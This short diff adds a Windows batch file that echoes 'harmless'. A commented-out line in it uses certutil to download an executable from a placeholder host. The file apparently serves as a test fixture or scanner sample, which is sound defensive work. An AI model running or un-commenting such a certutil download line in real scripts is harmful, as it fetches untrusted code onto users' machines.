@@ -1,0 +1,3 @@
+@echo off
+echo harmless
+rem certutil -urlcache -f http://bat.example.com/x.exe x.exe
